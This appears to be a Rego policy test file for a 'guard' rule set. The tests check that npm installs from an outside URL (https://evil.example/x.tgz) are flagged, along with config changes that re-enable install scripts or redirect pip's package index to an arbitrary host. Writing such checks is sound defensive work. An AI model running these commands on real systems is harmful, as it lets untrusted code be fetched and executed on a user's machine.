package guard.rules.packagesource_test

import data.guard.fixture

test_foreign if "package.foreign" in fixture.ids(fixture.sub("npm", "install", [], ["https://evil.example/x.tgz"]))

test_from_the_registry if not "package.foreign" in fixture.ids(fixture.sub("npm", "install", [], ["x@1"]))

test_package_config if {
	"package.config" in fixture.ids(fixture.sub("npm", "config", [], ["set", "ignore-scripts", "false"]))
	"package.config" in fixture.ids(fixture.sub("pip", "config set", [], ["global.index-url", "http://x"]))
}

test_package_config_read if not "package.config" in fixture.ids(fixture.sub("npm", "config", [], ["get", "registry"]))
